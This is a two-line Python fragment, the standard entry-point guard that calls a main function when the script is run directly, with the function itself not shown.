
if __name__ == "__main__":
    main()
